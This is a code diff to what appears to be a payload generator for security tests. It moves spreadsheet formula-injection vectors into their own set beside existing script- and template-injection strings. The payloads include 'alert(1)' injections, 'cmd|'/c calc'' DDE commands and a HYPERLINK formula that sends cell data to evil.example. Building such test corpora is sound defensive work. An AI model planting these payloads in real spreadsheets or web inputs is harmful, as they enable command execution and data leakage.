@@ -44,7 +44,7 @@ def beside() -> dict[str, tuple[str, ...]]:
 @cache
 def own() -> tuple[str, ...]:
     """Systematic variations: a way to run × a way to hide it × the place it breaks out of."""
-    return tuple(dict.fromkeys([*_broken_out(), *_hidden(), *_nested(), *_of_files()]))
+    return tuple(dict.fromkeys([*_broken_out(), *_hidden(), *_nested()]))
 
 
 RUN = "alert(1)"
@@ -125,7 +125,13 @@ def _nested() -> Iterator[str]:
         yield f"{{% autoescape off %}}{way}{{% endautoescape %}}${{alert(1)}}<%= alert(1) %>"
 
 
-def _of_files() -> Iterator[str]:
+@cache
+def for_spreadsheets() -> tuple[str, ...]:
+    """Texts that a spreadsheet would compute."""
+    return tuple(_computed())
+
+
+def _computed() -> Iterator[str]:
     for sign in ("=", "+", "-", "@", "\t=", "\r=", "＝", "|", "%", "'=", '"=', " ="):
         yield f"{sign}cmd|'/c calc'!A0"
         yield f'{sign}HYPERLINK("http://evil.example/?"&A1,"x")'
@@ -134,13 +140,16 @@ def _of_files() -> Iterator[str]:
 
 def every() -> tuple[str, ...]:
     """All vectors, each once, public sets first."""
-    sets = [*public().values(), *beside().values(), own()]
-    return tuple(dict.fromkeys(text for texts in sets for text in texts))
+    return tuple(dict.fromkeys(text for texts in _sets() for text in texts))
+
+
+def _sets() -> list[tuple[str, ...]]:
+    return [*public().values(), *beside().values(), own(), for_spreadsheets()]
 
 
 def sliced(count: int, seed: int = 20_261) -> tuple[str, ...]:
     """The same few of every set each time."""
-    sets = [*public().values(), *beside().values(), own()]
+    sets = _sets()
     whole = sum(map(len, sets))
     chosen = random.Random(seed)
     shares = [min(len(texts), max(2, count * len(texts) // whole)) for texts in sets]
